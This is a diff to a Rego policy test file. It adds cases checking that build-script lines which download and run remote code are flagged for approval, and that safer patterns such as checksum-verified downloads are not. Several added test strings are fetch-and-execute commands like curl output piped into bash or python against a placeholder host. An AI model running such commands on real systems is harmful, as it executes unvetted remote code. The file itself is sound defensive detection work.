@@ -171,6 +171,10 @@ test_downloads_that_are_run if {
 		"iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
 		"  | bash",
 		"curl https://x.example/get.py | python3 -",
+		"curl https://x.example |& bash",
+		"curl https://x.example | sudo -u root bash",
+		"curl https://x.example | (bash -s)",
+		"python3 <(curl -s https://x.example)",
 		`bash <<< "$(curl -s https://x.example/i)"`,
 		"curl https://x.example | exec env -i A=b bash",
 		"curl https://x.example | xargs -0 sh -c",
@@ -219,6 +223,26 @@ test_shells_behind_a_line_that_is_not_shown if {
 	said([{"path": "build.sh", "added": [{"line": 7, "text": "set -e"}, {"line": 8, "text": "  bash"}]}]) == set()
 	every text in ["    bash \\", "bash test.sh", "  shell: bash", "  - bash"] {
 		said([{"path": "build.sh", "added": [{"line": 7, "text": text}]}]) == set()
+	}
+}
+
+test_downloaded_files_that_are_run if {
+	every texts in [
+		["curl -fsSL https://x.example/i.sh -o /tmp/i.sh", "bash /tmp/i.sh --yes"],
+		["RUN wget -O install.sh https://x.example && sh -e ./install.sh"],
+		["curl https://x.example > i.sh", "chmod +x i.sh", "./i.sh"],
+		["curl -sSLo get.py https://x.example/get.py; python3 get.py"],
+	] {
+		said([adding("build.sh", texts)]) == {"require_approval download-run"}
+	}
+	every texts in [
+		["curl -fsSL https://x.example/i.sh -o i.sh", "echo 'abc  i.sh' | sha256sum -c", "bash i.sh"],
+		["curl -o a.tgz https://x.example/a.tgz", "tar xzf a.tgz"],
+		["curl -o data.json https://x.example", "node read.js data.json"],
+		["./i.sh", "curl -o i.sh https://x.example"],
+		["# curl -o i.sh https://x.example", "bash i.sh"],
+	] {
+		said([adding("build.sh", texts)]) == set()
 	}
 }
 
